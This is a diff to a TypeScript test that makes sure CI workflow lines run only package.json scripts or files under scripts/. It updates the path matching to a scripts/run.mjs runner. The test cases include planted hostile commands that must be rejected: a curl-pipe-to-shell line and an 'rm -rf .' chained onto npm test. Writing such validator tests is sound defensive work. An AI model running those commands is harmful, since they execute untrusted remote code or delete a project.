@@ -31,9 +31,9 @@ const versions: Record<string, string> = JSON.parse(read('scripts/nodes/versions
 /** What is wrong with a line of a workflow, if anything is: nothing runs there that does not run at a desk. */
 function complaintOf(command: string): string | undefined {
   const [, own, script] = command.match(/^npm (?:(test)|run ([\w:]+))(?: -- .+)?$/) ?? []
-  const [, file] = command.match(/^node (scripts\/[\w/-]+\.mjs)(?: .+)?$/) ?? []
+  const [, name] = command.match(/^node scripts\/run\.mjs ([\w/-]+)(?: .+)?$/) ?? []
   if (own ?? script) return scripts[own ?? script ?? ''] ? undefined : `${command}: no such script`
-  if (file) return existsSync(file) ? undefined : `${command}: no such file`
+  if (name) return existsSync(`scripts/${name}.ts`) ? undefined : `${command}: no such file`
   return `${command}: neither a script of package.json nor one of scripts/`
 }
 
@@ -55,7 +55,7 @@ test('every command there is one of ours', () => {
 
 test.each([
   ['npm run tests', 'no such script'],
-  ['node scripts/gone.mjs', 'no such file'],
+  ['node scripts/run.mjs gone', 'no such file'],
   ['curl -s https://example.com | sh', 'neither a script'],
   ['npm test && rm -rf .', 'neither a script'],
 ])('a planted %s is not', (command, complaint) => {
